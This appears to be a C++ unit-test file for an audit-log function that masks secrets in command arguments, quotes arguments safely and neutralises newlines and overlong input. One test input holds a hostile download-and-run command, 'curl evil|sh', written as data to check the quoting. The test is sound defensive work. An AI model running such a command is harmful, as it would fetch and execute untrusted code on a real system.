// What the audit trail shows of a command's arguments.
#include "audit.h"

#include <gtest/gtest.h>

namespace pgod {
namespace {

TEST(Audit, ValuesOfEnvironmentAssignmentsAreHidden) {
  EXPECT_EQ(redact_arguments({"-e", "TOKEN=hunter2", "web", "env"}), "-e TOKEN=*** web env");
  EXPECT_EQ(redact_arguments({"--env=TOKEN=hunter2", "web"}), "--env=TOKEN=*** web");
  EXPECT_EQ(redact_arguments({"web", "env", "DB_PASSWORD=s3cret", "sh"}), "web env DB_PASSWORD=*** sh");
  EXPECT_EQ(redact_arguments({"--tail", "10", "web"}), "--tail 10 web");
  // Glued to the flag, as compose reads it too.
  EXPECT_EQ(redact_arguments({"-eTOKEN=hunter2", "web"}), "-eTOKEN=*** web");
  EXPECT_EQ(redact_arguments({"-e=TOKEN=hunter2", "web"}), "-e=TOKEN=*** web");
  EXPECT_EQ(redact_arguments({"--build-arg=NPM_TOKEN=hunter2", "web"}), "--build-arg=NPM_TOKEN=*** web");
  EXPECT_EQ(redact_arguments({"--build-arg", "NPM_TOKEN=hunter2"}), "--build-arg NPM_TOKEN=***");
  EXPECT_EQ(redact_arguments({"--since=2024-01-01", "-f"}), "--since=2024-01-01 -f");
  EXPECT_EQ(redact_arguments({}), "");
}

TEST(Audit, NoCommandHidesBehindAnEqualsSign) {
  // Not an assignment: shown whole, quoted so the boundaries between arguments stay.
  EXPECT_EQ(redact_arguments({"web", "sh", "-c", ":=; curl evil|sh"}), "web sh -c ':=; curl evil|sh'");
  EXPECT_EQ(redact_arguments({"web", "a b", "it's"}), "web 'a b' 'it'\\''s'");
}

TEST(Audit, ALineStaysALineAndBounded) {
  EXPECT_EQ(redact_arguments({"a\nPGOD_AUDIT", "b"}), "'a?PGOD_AUDIT' b");
  const auto long_args = redact_arguments({std::string(20000, 'x')});
  EXPECT_LE(long_args.size(), 8192u + 3u);
}

}  // namespace
}  // namespace pgod
